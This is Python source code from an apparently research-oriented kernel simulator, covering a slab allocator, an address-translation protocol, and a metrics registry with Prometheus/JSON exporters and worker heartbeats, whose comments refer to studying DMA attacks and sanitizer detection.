            trace.observe("mem", "kmalloc_size", size)
        self._sink.on_alloc(obj_paddr, cache.object_size, site)
        return self._translate.kva_of_paddr(obj_paddr)

    def kfree(self, kva: int) -> None:
        """Free the object at *kva*."""
        paddr = self._translate.paddr_of_kva(kva)
        live = self._live.pop(paddr, None)
        if live is None:
            raise AllocatorError(f"kfree of unknown object at KVA {kva:#x}")
        object_size, _requested = live
        cache = self._caches[object_size]
        slab = cache.slab_by_pfn.get(paddr_to_pfn(paddr))
        if slab is None:
            raise AllocatorError(f"kfree: no slab owns paddr {paddr:#x}")
        # Push onto the freelist head, writing the next-pointer *into the
        # freed object* -- the metadata a mapped device can read/corrupt.
        old_head_kva = (_FREELIST_END if slab.freelist_head_paddr == 0 else
                        self._translate.kva_of_paddr(slab.freelist_head_paddr))
        self._phys.write_u64(paddr, old_head_kva)
        was_full = slab.freelist_head_paddr == 0
        slab.freelist_head_paddr = paddr
        slab.inuse -= 1
        self.nr_kfrees += 1
        if was_full:
            cache.full.remove(slab)
            cache.partial.append(slab)
        if trace.enabled("mem"):
            trace.emit("mem", "kfree", object_size=object_size,
                       pfn=paddr_to_pfn(paddr))
        self._sink.on_free(paddr, object_size)
        if slab.inuse == 0 and len(cache.partial) > 1:
            # Return fully-free surplus slabs to the buddy allocator.
            cache.partial.remove(slab)
            for i in range(1 << slab.order):
                del cache.slab_by_pfn[slab.base_pfn + i]
            self._buddy.free_pages(slab.base_pfn)

    def ksize(self, kva: int) -> int:
        """Usable size of the object at *kva* (its size class)."""
        paddr = self._translate.paddr_of_kva(kva)
        live = self._live.get(paddr)
        if live is None:
            raise AllocatorError(f"ksize of unknown object at KVA {kva:#x}")
        return live[0]

    def live_objects_on_pfn(self, pfn: int) -> list[tuple[int, int]]:
        """(paddr, size) of live objects on frame *pfn* (for D-KASAN)."""
        cache = self._cache_of_slab_pfn(pfn)
        if cache is None:
            return []
        lo = pfn * PAGE_SIZE
        hi = lo + PAGE_SIZE
        return sorted((paddr, sz) for paddr, (sz, _r) in self._live.items()
                      if lo <= paddr < hi)

    @property
    def nr_live_objects(self) -> int:
        return len(self._live)
