"""Virtual-address translation protocol used by the allocators.

The slab and page_frag allocators return *kernel virtual addresses* and
store KVAs (freelist pointers) inside page memory, exactly like SLUB --
that is what makes leaked allocator metadata useful to an attacker. The
actual KVA<->physical arithmetic lives in :mod:`repro.kaslr.translate`;
this protocol keeps ``repro.mem`` import-independent from it.
"""

from __future__ import annotations

from typing import Protocol


class VirtTranslator(Protocol):
    """Maps between physical addresses and direct-map KVAs."""

    def kva_of_paddr(self, paddr: int) -> int:
        """Direct-map kernel virtual address backing *paddr*."""
        ...

    def paddr_of_kva(self, kva: int) -> int:
        """Physical address behind direct-map KVA *kva*."""
        ...


class IdentityTranslator:
    """Trivial translator for allocator unit tests (KVA == paddr)."""

    def kva_of_paddr(self, paddr: int) -> int:
        return paddr

    def paddr_of_kva(self, kva: int) -> int:
        return kva
