"""repro.metrics -- the kernel-wide aggregate metrics registry.

Where :mod:`repro.trace` answers "what happened, in order" with a
bounded ring of events, this package answers "how much, how fast, how
full" with unbounded counters, gauges, and pow-2 histograms -- the
``/proc`` tier of the simulated kernel.

**Metrics are disabled by default and cost almost nothing when off.**
Like the flight recorder, nothing exists until a registry is
installed, and the instruments are *pull-based*: subsystems keep their
cheap resident stats structs either way, and collectors read them out
only at snapshot time::

    from repro import metrics

    with metrics.session() as registry:
        kernel = Kernel(seed=7)        # binds the kernel collector
        ...                            # run a workload
        text = metrics.export.prometheus_text(registry)

Set ``REPRO_METRICS=off`` (or ``0``/``false``/``no``) to force the
whole layer off: ``session()`` then yields ``None`` and ``install()``
refuses to install.

The most recently booted :class:`~repro.sim.kernel.Kernel` owns the
registry's ``kernel`` collector slot (mirroring how the flight
recorder binds to the most recent boot's clock), so attacker replica
boots do not pollute the victim's numbers as long as the victim boots
last -- and the CLI workloads profile replicas *before* installing the
registry, exactly like ``repro-dma trace`` does.
"""

from __future__ import annotations

import os
from contextlib import contextmanager

from repro.errors import MetricsError
from repro.metrics import export
from repro.metrics.collectors import (dkasan_collector, kernel_collector,
                                      perfcache_collector, publish_dkasan,
                                      publish_kernel, publish_perfcache)
from repro.metrics.export import (dump_json, dump_prometheus, json_record,
                                  prometheus_text)
from repro.metrics.heartbeat import (DEFAULT_STALL_AFTER_S, Heartbeat,
                                     HeartbeatMonitor, WorkerHealth,
                                     format_progress)
from repro.metrics.registry import (REQUEST_SLOTS, REQUEST_SUBSYSTEMS,
                                    SUBSYSTEMS, Counter, Gauge, Histogram,
                                    MetricsRegistry, Sample)

__all__ = [
    "Counter", "DEFAULT_STALL_AFTER_S", "Gauge", "Heartbeat",
    "HeartbeatMonitor", "Histogram", "MetricsError", "MetricsRegistry",
    "REQUEST_SLOTS", "REQUEST_SUBSYSTEMS",
    "SUBSYSTEMS", "Sample", "WorkerHealth", "active", "count",
    "dkasan_collector", "dump_json", "dump_prometheus", "enabled_in_env",
    "export", "format_progress", "install", "json_record",
    "kernel_collector", "observe", "observe_dkasan", "observe_kernel",
    "perfcache_collector", "prometheus_text", "publish_dkasan",
    "publish_kernel", "publish_perfcache", "reset_for_request",
    "session", "set_gauge", "uninstall",
]

_OFF_VALUES = ("off", "0", "false", "no")

#: The installed registry. ``None`` (the default) means metrics are
#: off and every helper below is a near-zero-cost no-op.
_active: MetricsRegistry | None = None


def enabled_in_env(environ=os.environ) -> bool:
    """False when ``REPRO_METRICS`` disables the whole layer."""
    return environ.get("REPRO_METRICS", "").lower() not in _OFF_VALUES


def install(registry: MetricsRegistry | None = None
            ) -> MetricsRegistry | None:
    """Install *registry* (or a fresh one) process-wide.

    Returns ``None`` without installing when ``REPRO_METRICS=off``.
    """
    global _active
    if not enabled_in_env():
        return None
    if _active is not None:
        raise MetricsError("a metrics registry is already installed")
    if registry is None:
        registry = MetricsRegistry()
    registry.register_collector(perfcache_collector(), slot="perfcache")
    _active = registry
    return registry


def uninstall() -> MetricsRegistry | None:
    """Remove (and return) the installed registry, if any."""
    global _active
    registry, _active = _active, None
    return registry


def active() -> MetricsRegistry | None:
    """The installed registry, or None when metrics are disabled."""
    return _active


@contextmanager
def session(registry: MetricsRegistry | None = None):
    """Install a registry for the ``with`` body (None when env-off)."""
    installed = install(registry)
    try:
        yield installed
    finally:
        if installed is not None:
            uninstall()


# -- binding hooks (called by subsystem constructors) ---------------------

def observe_kernel(kernel) -> None:
    """Bind *kernel* as the registry's ``kernel`` collector (last boot
    wins); no-op when metrics are off."""
    registry = _active
    if registry is not None:
        registry.register_collector(kernel_collector(kernel),
                                    slot="kernel")


def observe_dkasan(dkasan) -> None:
    registry = _active
    if registry is not None:
        registry.register_collector(dkasan_collector(dkasan),
                                    slot="dkasan")


def reset_for_request() -> int:
    """Drop the per-request collector slots and instruments.

    Long-lived processes (the ``repro-dma serve`` daemon) call this
    between requests so the ``kernel``/``dkasan`` collector bindings
    and the per-workload subsystems never leak from one request's
    export into the next: the old rule was last-boot-wins *forever*,
    which is fine for a one-shot CLI run and wrong for a daemon.
    No-op (returns 0) when metrics are off.
    """
    registry = _active
    if registry is None:
        return 0
    return registry.reset_request_scope()


# -- push-style hot hooks (no-op guard, same budget as trace) -------------

def count(subsystem: str, name: str, delta: int | float = 1,
          **labels) -> None:
    registry = _active
    if registry is not None:
        registry.counter(subsystem, name, **labels).inc(delta)


def observe(subsystem: str, name: str, value: float, **labels) -> None:
    registry = _active
    if registry is not None:
        registry.histogram(subsystem, name, **labels).observe(value)


def set_gauge(subsystem: str, name: str, value: int | float,
              **labels) -> None:
    registry = _active
    if registry is not None:
        registry.gauge(subsystem, name, **labels).set(value)
