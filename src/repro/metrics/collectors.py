"""Pull-model collectors: read resident stats structs into the registry.

The simulation already keeps cheap always-on aggregate counters
(IotlbStats, IommuStats, NicStats, StackStats, CacheStats, the
allocator totals).  Collectors copy them into registry instruments at
snapshot time, so enabling metrics adds no per-event work on the hot
path -- the property the overhead benchmark in ``benchmarks/`` pins.
"""

from __future__ import annotations

from repro.metrics.registry import MetricsRegistry


def kernel_collector(kernel):
    """A collector publishing every subsystem of one booted kernel."""

    def collect(registry: MetricsRegistry) -> None:
        publish_kernel(registry, kernel)

    return collect


def dkasan_collector(dkasan):
    def collect(registry: MetricsRegistry) -> None:
        publish_dkasan(registry, dkasan)

    return collect


def perfcache_collector():
    """Publishes the default :class:`~repro.perfcache.PerfCache` stats.

    Registered unconditionally at :func:`repro.metrics.install` time so
    the ``perfcache`` family is always present (zero-filled when the
    cache never ran or ``REPRO_CACHE=off`` bypassed it) -- exports stay
    byte-identical whether or not a cache directory exists.
    """

    def collect(registry: MetricsRegistry) -> None:
        from repro import perfcache
        publish_perfcache(registry, perfcache.default_cache().stats)

    return collect


# -- per-subsystem publishers ---------------------------------------------

def publish_kernel(registry: MetricsRegistry, kernel) -> None:
    _publish_dma(registry, kernel)
    _publish_iommu(registry, kernel)
    _publish_net(registry, kernel)
    _publish_mem(registry, kernel)
    registry.gauge("sim", "clock_us").set(kernel.clock.now_us)


def _publish_dma(registry: MetricsRegistry, kernel) -> None:
    dma = kernel.dma
    mappings = getattr(dma, "registry", None)
    if mappings is None:  # BounceDmaApi wraps the real DMA API
        mappings = getattr(getattr(dma, "_inner", None), "registry", None)
    if mappings is not None:
        registry.counter("dma", "maps").set(mappings.nr_added)
        registry.counter("dma", "unmaps").set(mappings.nr_removed)
        registry.gauge("dma", "live_mappings").set(mappings.nr_live)
    bytes_copied = getattr(dma, "bytes_copied", None)
    if bytes_copied is not None:
        registry.counter("dma", "bounce_bytes_copied").set(bytes_copied)
        registry.counter("dma", "bounce_pages_used").set(
            dma.bounce_pages_used)


def _publish_iommu(registry: MetricsRegistry, kernel) -> None:
    from repro.backends import backend_label

    iommu = kernel.iommu
    # default-backend runs get NO backend label anywhere: the
    # pre-backend Prometheus export must stay byte-identical
    label = backend_label(getattr(iommu, "backend", None))
    extra = {} if label is None else {"backend": label}
    registry.gauge("iommu", "info", mode=iommu.mode, **extra).set(1)
    iotlb = iommu.iotlb.stats

    def lookups(subsystem, name, **labels):
        return registry.counter(subsystem, name, **labels, **extra)

    lookups("iommu", "iotlb_lookups", result="hit").set(iotlb.hits)
    lookups("iommu", "iotlb_lookups", result="miss").set(iotlb.misses)
    lookups("iommu", "iotlb_stale_hits").set(iotlb.stale_hits)
    lookups("iommu", "iotlb_invalidations").set(iotlb.invalidations)
    lookups("iommu", "iotlb_global_flushes").set(iotlb.global_flushes)
    lookups("iommu", "iotlb_evictions").set(iotlb.evictions)
    registry.gauge("iommu", "iotlb_entries",
                   **extra).set(iommu.iotlb.nr_entries)
    stats = iommu.stats
    lookups("iommu", "device_accesses", dir="read").set(stats.device_reads)
    lookups("iommu", "device_accesses", dir="write").set(
        stats.device_writes)
    lookups("iommu", "device_bytes", dir="read").set(stats.bytes_read)
    lookups("iommu", "device_bytes", dir="write").set(stats.bytes_written)
    lookups("iommu", "faults").set(stats.faults)
    lookups("iommu", "stale_translations").set(stats.stale_translations)
    policy = iommu.policy
    inv = policy.stats
    lookups("iommu", "unmaps").set(inv.unmaps)
    lookups("iommu", "invalidations", kind="sync").set(
        inv.sync_invalidations)
    lookups("iommu", "invalidations", kind="deferred").set(
        inv.deferred_invalidations)
    lookups("iommu", "flush_queue_drains").set(inv.flushes)
    lookups("iommu", "invalidation_cycles").set(inv.cycles_spent)
    registry.gauge("iommu", "flush_queue_depth", **extra).set(
        getattr(policy, "nr_pending", 0))


def _publish_net(registry: MetricsRegistry, kernel) -> None:
    for name in sorted(kernel.nics):
        nic = kernel.nics[name]
        stats = nic.stats
        counter = registry.counter
        counter("net", "rx_packets", device=name).set(stats.rx_packets)
        counter("net", "tx_packets", device=name).set(stats.tx_packets)
        counter("net", "tx_timeouts", device=name).set(stats.tx_timeouts)
        counter("net", "rx_ring_resets", device=name).set(
            stats.rx_ring_resets)
        rx_posted = sum(len(ring.posted_descriptors())
                        for ring in nic.rx_rings.values())
        tx_inflight = sum(
            1 for ring in nic.tx_rings.values()
            for desc in ring.descriptors
            if desc.posted and not desc.completed)
        registry.gauge("net", "rx_ring_occupancy",
                       device=name).set(rx_posted)
        registry.gauge("net", "tx_ring_inflight",
                       device=name).set(tx_inflight)
    stack = kernel.stack.stats
    counter = registry.counter
    counter("net", "rx_delivered").set(stack.rx_delivered)
    counter("net", "echoed").set(stack.echoed)
    counter("net", "forwarded").set(stack.forwarded)
    counter("net", "dropped").set(stack.dropped)
    counter("net", "skbs_freed").set(stack.skbs_freed)
    counter("net", "zerocopy_callbacks").set(stack.zerocopy_callbacks)
    counter("net", "oopses").set(stack.oopses)
    skb = kernel.skb_alloc.stats
    counter("net", "skb_allocs").set(skb.skb_allocs)
    counter("net", "skb_frees").set(skb.skb_frees)
    counter("net", "rx_buffer_allocs").set(skb.rx_buffer_allocs)


def _publish_mem(registry: MetricsRegistry, kernel) -> None:
    counter = registry.counter
    buddy = kernel.buddy
    counter("mem", "buddy_allocs").set(buddy.nr_allocs)
    counter("mem", "buddy_frees").set(buddy.nr_frees)
    registry.gauge("mem", "buddy_free_pages").set(buddy.nr_free_pages)
    slab = kernel.slab
    counter("mem", "slab_kmallocs").set(slab.nr_kmallocs)
    counter("mem", "slab_kfrees").set(slab.nr_kfrees)
    registry.gauge("mem", "slab_live_objects").set(slab.nr_live_objects)
    frag_allocs = frag_frees = frag_refills = frag_live = 0
    for cache in kernel.page_frag.caches():
        frag_allocs += cache.nr_allocs
        frag_frees += cache.nr_frees
        frag_refills += cache.nr_refills
        frag_live += cache.nr_live_frags
    counter("mem", "page_frag_allocs").set(frag_allocs)
    counter("mem", "page_frag_frees").set(frag_frees)
    counter("mem", "page_frag_refills").set(frag_refills)
    registry.gauge("mem", "page_frag_live").set(frag_live)
    registry.gauge("mem", "phys_bytes").set(kernel.phys.size_bytes)


def publish_dkasan(registry: MetricsRegistry, dkasan) -> None:
    from repro.core.dkasan.sanitizer import EVENT_KINDS
    counts = dkasan.summary_counts()
    for kind in EVENT_KINDS:
        registry.counter("dkasan", "events",
                         kind=kind).set(counts.get(kind, 0))
    registry.counter("dkasan", "events_all").set(len(dkasan.events))


def publish_perfcache(registry: MetricsRegistry, stats) -> None:
    counter = registry.counter
    counter("perfcache", "lookups", result="memory_hit").set(
        stats.memory_hits)
    counter("perfcache", "lookups", result="disk_hit").set(
        stats.disk_hits)
    counter("perfcache", "lookups", result="miss").set(stats.misses)
    counter("perfcache", "stores").set(stats.stores)
    counter("perfcache", "bypasses").set(stats.bypasses)
    counter("perfcache", "corrupt_recovered").set(stats.corrupt)
    counter("perfcache", "write_errors").set(stats.write_errors)
    lookups = stats.lookups
    ratio = stats.hits / lookups if lookups else 0.0
    registry.gauge("perfcache", "hit_ratio").set(ratio)
