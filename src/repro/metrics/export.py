"""Deterministic exporters: Prometheus text exposition and JSON.

Both exporters are pure functions of the registry contents -- no
wall-clock timestamps, no iteration-order dependence -- so two
same-seed workload runs produce byte-identical output (the same
property trace JSONL has, pinned by tests/test_metrics.py).
"""

from __future__ import annotations

import json

from repro.metrics.registry import MetricsRegistry, Sample

#: Prefix every exported family so scrapes from multiple simulations
#: can coexist in one Prometheus server.
PREFIX = "repro"


def _format_value(value: int | float) -> str:
    if isinstance(value, bool):  # pragma: no cover - defensive
        return str(int(value))
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return repr(value)


def _escape_label(value: str) -> str:
    return (value.replace("\\", "\\\\").replace('"', '\\"')
            .replace("\n", "\\n"))


def _label_block(labels: dict, extra: dict | None = None) -> str:
    items = dict(labels)
    if extra:
        items.update(extra)
    if not items:
        return ""
    body = ",".join(f'{k}="{_escape_label(str(v))}"'
                    for k, v in sorted(items.items()))
    return "{" + body + "}"


def _family_name(sample: Sample) -> str:
    name = f"{PREFIX}_{sample.subsystem}_{sample.name}"
    if sample.kind == "counter" and not name.endswith("_total"):
        name += "_total"
    return name


def _bucket_boundaries(histogram) -> list[tuple[int, str]]:
    """Upper bounds for every populated pow-2 bucket, cumulative-ready."""
    if not histogram.buckets:
        return []
    top = max(histogram.buckets)
    return [(i, "1" if i == 0 else str(1 << i)) for i in range(top + 1)]


def prometheus_text(registry: MetricsRegistry, *,
                    collect: bool = True) -> str:
    """Render the registry in Prometheus text exposition format."""
    lines: list[str] = []
    seen_families: set[str] = set()
    for sample in registry.samples(collect=collect):
        family = _family_name(sample)
        if family not in seen_families:
            seen_families.add(family)
            kind = ("counter" if sample.kind == "counter"
                    else "histogram" if sample.kind == "histogram"
                    else "gauge")
            lines.append(f"# TYPE {family} {kind}")
        if sample.kind == "histogram":
            hist = sample.histogram
            cumulative = 0
            for index, le in _bucket_boundaries(hist):
                cumulative += hist.buckets.get(index, 0)
                lines.append(
                    f"{family}_bucket"
                    f"{_label_block(sample.labels, {'le': le})} "
                    f"{cumulative}")
            lines.append(
                f"{family}_bucket"
                f"{_label_block(sample.labels, {'le': '+Inf'})} "
                f"{hist.count}")
            lines.append(f"{family}_sum{_label_block(sample.labels)} "
                         f"{_format_value(hist.total)}")
            lines.append(f"{family}_count{_label_block(sample.labels)} "
                         f"{hist.count}")
        else:
            lines.append(f"{family}{_label_block(sample.labels)} "
                         f"{_format_value(sample.value)}")
    return "\n".join(lines) + ("\n" if lines else "")


def json_record(registry: MetricsRegistry, *, collect: bool = True,
                seed: int | None = None) -> dict:
    """A JSON-serializable snapshot of every instrument."""
    metrics = []
    for sample in registry.samples(collect=collect):
        record = {
            "subsystem": sample.subsystem,
            "name": sample.name,
            "kind": sample.kind,
            "labels": sample.labels,
        }
        if sample.kind == "histogram":
            record["histogram"] = sample.histogram.to_json()
        else:
            record["value"] = sample.value
        metrics.append(record)
    doc = {"schema": "repro.metrics/1", "metrics": metrics}
    if seed is not None:
        doc["seed"] = seed
    return doc


def dump_json(registry: MetricsRegistry, path: str, *,
              collect: bool = True, seed: int | None = None) -> None:
    doc = json_record(registry, collect=collect, seed=seed)
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(doc, handle, indent=2, sort_keys=True)
        handle.write("\n")


def dump_prometheus(registry: MetricsRegistry, path: str, *,
                    collect: bool = True) -> None:
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(prometheus_text(registry, collect=collect))
