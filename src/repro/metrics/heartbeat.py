"""Campaign health telemetry: worker heartbeats over a shared directory.

Campaign workers run in separate processes, so they cannot publish
into the parent's in-memory registry.  Instead each worker atomically
rewrites one small JSON file (``worker-<id>.json``) after every unit
of progress; the runner's :class:`HeartbeatMonitor` scans the
directory between result polls, derives per-worker health, and flags
workers whose last beat is older than the stall threshold -- the
"is seed 17 wedged or just slow?" question a long differential
campaign otherwise cannot answer.

Files are written via ``tempfile`` + ``os.replace`` (same recipe as
the perfcache disk tier) so the monitor never observes a torn write;
each worker only ever writes its own file, so no locking is needed.
"""

from __future__ import annotations

import json
import os
import time
import warnings
from dataclasses import dataclass, field

from repro import durability

#: A worker with no beat for this many seconds is flagged as stalled.
DEFAULT_STALL_AFTER_S = 60.0

_PREFIX = "worker-"
_SUFFIX = ".json"


@dataclass
class WorkerHealth:
    """One worker's most recent heartbeat, aged against *now*."""

    worker_id: str
    pid: int = 0
    stage: str = ""          # "running" / "idle" / "done"
    seed: int | None = None
    seeds_done: int = 0
    updated_at: float = 0.0
    age_s: float = 0.0
    stalled: bool = False
    extra: dict = field(default_factory=dict)


class Heartbeat:
    """Writer side: one instance per worker process."""

    def __init__(self, directory: str, worker_id: str) -> None:
        self.directory = directory
        self.worker_id = str(worker_id)
        self._path = os.path.join(directory,
                                  f"{_PREFIX}{self.worker_id}{_SUFFIX}")
        os.makedirs(directory, exist_ok=True)

    def beat(self, *, stage: str = "running", seed: int | None = None,
             seeds_done: int = 0, **extra) -> None:
        doc = {
            "worker_id": self.worker_id,
            "pid": os.getpid(),
            "stage": stage,
            "seed": seed,
            "seeds_done": seeds_done,
            "time": time.time(),
        }
        if extra:
            doc["extra"] = extra
        try:
            durability.atomic_write_json(self._path, doc)
        except OSError:
            # telemetry must never kill the campaign (disk full, ...);
            # any tmp residue is the durability GC's problem
            pass


class HeartbeatMonitor:
    """Reader side: scan every worker file and age the beats."""

    def __init__(self, directory: str, *,
                 stall_after_s: float = DEFAULT_STALL_AFTER_S) -> None:
        self.directory = directory
        self.stall_after_s = stall_after_s
        self._warned: set[str] = set()

    def scan(self, *, now: float | None = None) -> list[WorkerHealth]:
        if now is None:
            now = time.time()
        healths = []
        try:
            names = sorted(os.listdir(self.directory))
        except OSError:
            return []
        for name in names:
            if not (name.startswith(_PREFIX) and name.endswith(_SUFFIX)):
                continue
            path = os.path.join(self.directory, name)
            try:
                with open(path, encoding="utf-8") as handle:
                    doc = json.load(handle)
            except FileNotFoundError:
                continue  # raced a replace: the next scan sees it
            except (OSError, ValueError) as exc:
                # torn/partial worker file (possible only outside the
                # atomic write mode, or under fault injection): skip
                # it with ONE warning instead of poisoning every poll
                if name not in self._warned:
                    self._warned.add(name)
                    warnings.warn(
                        f"heartbeat: skipping torn/partial {path} "
                        f"({exc}); the worker's beats resume on its "
                        f"next write", RuntimeWarning)
                    from repro import metrics
                    metrics.count("durability", "recoveries",
                                  kind="torn_heartbeat")
                continue
            updated_at = float(doc.get("time", 0.0))
            age_s = max(now - updated_at, 0.0)
            stage = str(doc.get("stage", ""))
            healths.append(WorkerHealth(
                worker_id=str(doc.get("worker_id", name)),
                pid=int(doc.get("pid", 0)),
                stage=stage,
                seed=doc.get("seed"),
                seeds_done=int(doc.get("seeds_done", 0)),
                updated_at=updated_at,
                age_s=age_s,
                stalled=(stage == "running"
                         and age_s > self.stall_after_s),
                extra=dict(doc.get("extra", {})),
            ))
        return healths

    def clear(self) -> None:
        """Drop leftover heartbeats from a previous run."""
        try:
            names = os.listdir(self.directory)
        except OSError:
            return
        for name in names:
            if name.startswith(_PREFIX) and name.endswith(_SUFFIX):
                try:
                    os.unlink(os.path.join(self.directory, name))
                except OSError:
                    pass


def format_progress(healths: list[WorkerHealth]) -> str:
    """One live progress line: ``workers 3 running, 1 stalled | ...``."""
    if not healths:
        return "workers: none reporting"
    running = [h for h in healths if h.stage == "running"]
    stalled = [h for h in healths if h.stalled]
    done = sum(h.seeds_done for h in healths)
    parts = [f"workers: {len(running)} running"]
    if stalled:
        detail = ", ".join(
            f"pid {h.pid} seed {h.seed} ({h.age_s:.0f}s silent)"
            for h in stalled)
        parts.append(f"{len(stalled)} STALLED [{detail}]")
    parts.append(f"{done} seeds done")
    return " | ".join(parts)
