"""Typed instruments and the process-wide metrics registry.

The registry is the aggregate tier of observability: where
:mod:`repro.trace` records *individual* events into a bounded ring
(and therefore drops the oldest under pressure), the registry holds
*unbounded* counters, gauges, and pow-2 histograms -- the numbers a
production kernel exposes under ``/proc`` and a fleet alerts on.

Design notes:

* Instruments are keyed ``(subsystem, name, labels)`` where labels is
  a sorted tuple of ``(key, value)`` pairs -- a *labeled family* in
  Prometheus terms.  The same ``(subsystem, name)`` must always map to
  the same instrument kind; a collision raises
  :class:`~repro.errors.MetricsError`.
* Subsystems publish mostly via *collectors* (pull model): the cheap
  always-on stats structs the simulation already maintains (IotlbStats,
  NicStats, CacheStats, ...) are read out at :meth:`collect` time and
  written into the registry with ``set``.  The hot path therefore pays
  nothing for metrics beyond the plain integer increments it already
  performed -- which is how the ringflood event rate stays within the
  10% overhead budget.
* Push-style helpers (``counter().inc()``, ``histogram().observe()``)
  exist for wall-clock timings (SPADE parse/analyze) and campaign
  progress, where there is no resident stats struct to pull from.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterable

from repro.errors import MetricsError

#: Every subsystem that publishes instruments.  Exporters iterate this
#: order (then sort within) so output is deterministic.
SUBSYSTEMS = ("dma", "iommu", "net", "mem", "dkasan", "perfcache",
              "spade", "campaign", "coverage", "sim", "faults", "serve",
              "durability")

#: Subsystems whose instruments describe *one* workload/request run
#: (a booted kernel and the analysis over it) rather than cumulative
#: process state.  :meth:`MetricsRegistry.reset_request_scope` drops
#: exactly these, so a long-lived server can make back-to-back
#: requests export independently instead of last-boot-wins.
REQUEST_SUBSYSTEMS = ("dma", "iommu", "net", "mem", "dkasan", "sim",
                      "spade")

#: Collector slots bound by per-request objects (the most recently
#: booted kernel, its D-KASAN sink); dropped by the same reset.
REQUEST_SLOTS = ("kernel", "dkasan")

LabelItems = tuple  # tuple[tuple[str, str], ...]


def _label_items(labels: dict) -> LabelItems:
    for key in labels:
        if not key or not isinstance(key, str):
            raise MetricsError(f"bad label key: {key!r}")
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


@dataclass
class Counter:
    """A monotonically non-decreasing count (maps/unmaps, hits, ...)."""

    value: int | float = 0

    def inc(self, delta: int | float = 1) -> None:
        if delta < 0:
            raise MetricsError(f"counter increment must be >= 0, "
                               f"got {delta}")
        self.value += delta

    def set(self, value: int | float) -> None:
        """Pull-model publish: overwrite with the collected total."""
        if value < 0:
            raise MetricsError(f"counter value must be >= 0, got {value}")
        self.value = value


@dataclass
class Gauge:
    """An instantaneous level (live mappings, free pages, queue depth)."""

    value: int | float = 0

    def set(self, value: int | float) -> None:
        self.value = value

    def inc(self, delta: int | float = 1) -> None:
        self.value += delta

    def dec(self, delta: int | float = 1) -> None:
        self.value -= delta


@dataclass
class Histogram:
    """Power-of-two bucketed histogram (same shape as the trace tier).

    Bucket ``i`` counts observations in ``[2**(i-1), 2**i)``; bucket 0
    counts values below 1.  Negative observations are clamped to 0.
    """

    buckets: dict[int, int] = field(default_factory=dict)
    count: int = 0
    total: float = 0.0
    min: float | None = None
    max: float | None = None

    def observe(self, value: float) -> None:
        index = int(max(value, 0)).bit_length()
        self.buckets[index] = self.buckets.get(index, 0) + 1
        self.count += 1
        self.total += value
        self.min = value if self.min is None else min(self.min, value)
        self.max = value if self.max is None else max(self.max, value)

    def to_json(self) -> dict:
        return {
            "count": self.count,
            "total": self.total,
            "min": self.min,
            "max": self.max,
            "buckets": {str(i): self.buckets[i]
                        for i in sorted(self.buckets)},
        }


_KINDS = {"counter": Counter, "gauge": Gauge, "histogram": Histogram}


@dataclass
class Sample:
    """One collected instrument, flattened for export."""

    subsystem: str
    name: str
    kind: str
    labels: dict
    value: int | float | None = None      # counter / gauge
    histogram: Histogram | None = None    # histogram


class MetricsRegistry:
    """Process-wide home for every instrument.

    Collectors registered under a *slot* replace each other -- the most
    recently booted kernel owns the ``kernel`` slot, mirroring how the
    flight recorder binds to the most recently booted clock.
    """

    def __init__(self) -> None:
        self._instruments: dict[tuple, object] = {}
        self._kinds: dict[tuple[str, str], str] = {}
        self._collectors: dict[str, Callable[["MetricsRegistry"], None]] = {}
        self._nr_anonymous = 0

    # -- instrument accessors (create on first use) ----------------------

    def _instrument(self, kind: str, subsystem: str, name: str,
                    labels: dict):
        if subsystem not in SUBSYSTEMS:
            raise MetricsError(f"unknown subsystem {subsystem!r} "
                               f"(expected one of {SUBSYSTEMS})")
        family = (subsystem, name)
        known = self._kinds.get(family)
        if known is None:
            self._kinds[family] = kind
        elif known != kind:
            raise MetricsError(
                f"{subsystem}/{name} is a {known}, not a {kind}")
        key = (subsystem, name, _label_items(labels))
        instrument = self._instruments.get(key)
        if instrument is None:
            instrument = self._instruments[key] = _KINDS[kind]()
        return instrument

    def counter(self, subsystem: str, name: str, **labels) -> Counter:
        return self._instrument("counter", subsystem, name, labels)

    def gauge(self, subsystem: str, name: str, **labels) -> Gauge:
        return self._instrument("gauge", subsystem, name, labels)

    def histogram(self, subsystem: str, name: str, **labels) -> Histogram:
        return self._instrument("histogram", subsystem, name, labels)

    # -- collectors (pull model) -----------------------------------------

    def register_collector(self, collect: Callable[["MetricsRegistry"],
                                                   None],
                           *, slot: str | None = None) -> None:
        """Add a collector; a named *slot* replaces its predecessor."""
        if slot is None:
            slot = f"anonymous-{self._nr_anonymous}"
            self._nr_anonymous += 1
        self._collectors[slot] = collect

    def unregister_collector(self, slot: str) -> bool:
        """Drop the collector bound at *slot*; True when one was there."""
        return self._collectors.pop(slot, None) is not None

    def reset_request_scope(self, *,
                            slots: Iterable = REQUEST_SLOTS,
                            subsystems: Iterable = REQUEST_SUBSYSTEMS
                            ) -> int:
        """Forget everything the last request/workload published.

        Unbinds the per-request collector *slots* and deletes every
        instrument under the per-request *subsystems*, returning the
        number of instruments dropped.  Cumulative process state
        (``serve``, ``perfcache``, ``faults``, ``campaign``) survives.
        This replaces the old last-boot-wins-forever behavior for
        long-lived processes: between requests, a server resets, so
        two identical back-to-back requests export identically.
        """
        for slot in slots:
            self.unregister_collector(slot)
        doomed_subsystems = set(subsystems)
        doomed = [key for key in self._instruments
                  if key[0] in doomed_subsystems]
        for key in doomed:
            del self._instruments[key]
        for family in [f for f in self._kinds
                       if f[0] in doomed_subsystems]:
            del self._kinds[family]
        return len(doomed)

    def collect(self) -> None:
        """Run every collector, refreshing pulled instruments."""
        for collect in list(self._collectors.values()):
            collect(self)

    # -- export ----------------------------------------------------------

    def samples(self, *, collect: bool = True) -> list[Sample]:
        """Every instrument, sorted for deterministic export."""
        if collect:
            self.collect()
        order = {subsystem: i for i, subsystem in enumerate(SUBSYSTEMS)}
        out = []
        for key in sorted(self._instruments,
                          key=lambda k: (order[k[0]], k[1], k[2])):
            subsystem, name, items = key
            instrument = self._instruments[key]
            kind = self._kinds[(subsystem, name)]
            sample = Sample(subsystem=subsystem, name=name, kind=kind,
                            labels=dict(items))
            if kind == "histogram":
                sample.histogram = instrument
            else:
                sample.value = instrument.value
            out.append(sample)
        return out

    def subsystems_present(self, *, collect: bool = True) -> list[str]:
        present = {s.subsystem for s in self.samples(collect=collect)}
        return [s for s in SUBSYSTEMS if s in present]

    def __len__(self) -> int:
